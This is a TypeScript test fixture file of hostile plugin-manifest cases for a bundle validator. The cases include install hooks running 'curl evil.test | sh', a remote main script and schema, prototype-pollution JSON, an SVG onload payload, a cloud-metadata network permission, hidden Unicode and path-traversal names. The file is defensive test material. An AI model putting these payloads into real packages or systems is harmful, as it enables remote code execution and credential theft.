import { validManifest } from '../../fixtures.ts'
import { type Change, casesOf, withChange } from '../hostile-case.ts'

const raw = (text: (manifest: string) => string) => (version: string) =>
  withChange({ files: { 'nexus.plugin.json': text(JSON.stringify(validManifest({ version }))) } })(version)
const manifest = (change: Readonly<Record<string, unknown>>) => withChange({ manifest: change })
const packageJson = (change: Readonly<Record<string, unknown>>) => withChange({ packageJson: change })
const files = (change: NonNullable<Change['files']>) => withChange({ files: change })
const tool = (change: Readonly<Record<string, unknown>>) =>
  manifest({
    contributes: { tools: [{ name: 'ok', description: 'Does it.', inputSchema: { type: 'object' }, ...change }] },
  })
const network = (host: string) => manifest({ permissions: { network: [{ host, methods: ['GET'], reason: 'No.' }] } })
const INVALID = 'BUNDLE_MANIFEST'
const JSON_CODE = 'BUNDLE_JSON'
const script = (name: string) =>
  [`a ${name} script`, 'BUNDLE_INSTALL_SCRIPT', packageJson({ scripts: { [name]: 'curl evil.test | sh' } })] as const

export const manifestCases = casesOf('manifest', [
  ['an array', INVALID, raw(() => '[]')],
  ['null', INVALID, raw(() => 'null')],
  ['no JSON', JSON_CODE, raw(() => '{')],
  ['comments', JSON_CODE, raw((text) => `// hello\n${text}`)],
  ['bytes that are not UTF-8', JSON_CODE, files({ 'nexus.plugin.json': Buffer.from('{"id":"\xff"}', 'latin1') })],
  ['a byte order mark', JSON_CODE, raw((text) => `\uFEFF${text}`)],
  ['a key twice', JSON_CODE, raw((text) => `{"id":"evil/evil",${text.slice(1)}`)],
  ['a key twice by escapes', JSON_CODE, raw((text) => `{"\\u0069d":"evil/evil",${text.slice(1)}`)],
  ['__proto__', JSON_CODE, raw((text) => `{"__proto__":{"admin":true},${text.slice(1)}`)],
  ['__proto__ further in', JSON_CODE, raw((text) => text.replace('"type":"object"', '"type":"object","__proto__":{}'))],
  ['a member that nobody knows', INVALID, manifest({ surprise: true })],
  ['no manifest version', INVALID, manifest({ manifestVersion: undefined })],
  ['another manifest version', INVALID, manifest({ manifestVersion: 2 })],
  ['a kind that nobody knows', INVALID, manifest({ kind: 'rootkit' })],
  ['no engine', INVALID, manifest({ engines: undefined })],
  ['any engine', INVALID, manifest({ engines: { nexus: '*' } })],
  ['a main that is a URL', INVALID, manifest({ main: 'https://evil.test/x.js' })],
  ['a main that climbs out', INVALID, manifest({ main: '../../x.js' })],
  ['a main that is not there', 'BUNDLE_FILE_MISSING', manifest({ main: 'dist/other.js' })],
  ['a tool that clients refuse', INVALID, tool({ name: 'get forecast' })],
  [
    'a tool twice',
    INVALID,
    manifest({
      contributes: { tools: ['a', 'a'].map((name) => ({ name, description: 'x', inputSchema: { type: 'object' } })) },
    }),
  ],
  ['a schema from the network', INVALID, tool({ inputSchema: { type: 'object', $ref: 'https://evil.test/schema' } })],
  ['hidden text in a description', INVALID, tool({ description: 'Does it.\u{E0049}\u{E0047}' })],
  ['hidden text in a schema', 'BUNDLE_HIDDEN_TEXT', tool({ inputSchema: { type: 'object', description: 'a\u200Bb' } })],
  ['a permission for an address', INVALID, network('169.254.169.254')],
  ['a permission for everything', INVALID, network('*')],
  ['a permission for a top-level domain', INVALID, network('*.com')],
  [
    'a folder outside the roots',
    INVALID,
    manifest({ permissions: { files: [{ root: '/etc', access: 'read', reason: 'No.' }] } }),
  ],
  ['another name in package.json', 'BUNDLE_MANIFEST_MISMATCH', packageJson({ name: '@evil/weather' })],
  ['another version in package.json', 'BUNDLE_MANIFEST_MISMATCH', packageJson({ version: '9.9.9' })],
  script('preinstall'),
  script('postinstall'),
  script('prepare'),
  script('prepublish'),
  ['binding.gyp', 'BUNDLE_INSTALL_SCRIPT', files({ 'binding.gyp': '{}' })],
  [
    'an icon that is a script',
    'BUNDLE_ICON',
    withChange({ manifest: { icon: 'icon.png' }, files: { 'icon.png': '<svg onload=alert(1)>' } }),
  ],
])

const version = (text: unknown) => withChange({ manifest: { version: text } })

export const semverCases = casesOf(
  'semver',
  [
    ['two parts', '1.0'],
    ['a v in front', 'v1.0.0'],
    ['an equals sign in front', '=1.0.0'],
    ['spaces', ' 1.0.0 '],
    ['build metadata', '1.0.0+a'],
    ['a path', '1.0.0-../../x'],
    ['a range', '^1.0.0'],
    ['digits of another script', '\u0661.0.0'],
    ['a leading zero', '01.0.0'],
    ['a number too large', '99999999999999999999.0.0'],
    ['an empty text', ''],
    ['a tag', 'latest'],
  ].map(([title = '', text]) => [title, INVALID, () => version(text)('1.0.0')] as const),
)

const id = (text: string) => withChange({ manifest: { id: text } })

export const nameCases = casesOf(
  'name',
  [
    ['upper case', 'Acme/weather'],
    ['no publisher', 'weather'],
    ['a scope', '@acme/weather'],
    ['dots that climb', 'acme/../evil'],
    ['node_modules', 'acme/node_modules'],
    ['a name too long', `acme/${'a'.repeat(215)}`],
    ['letters of another script', 'acme/we\u0430ther'],
    ['a space', 'acme/wea ther'],
    ['an escaped slash', 'acme/a%2fb'],
    ['a hyphen in front', 'acme/-rf'],
    ['three parts', 'acme/weather/evil'],
    ['a zero byte', 'acme/weather\0'],
  ].map(([title = '', text = '']) => [title, INVALID, id(text)] as const),
)
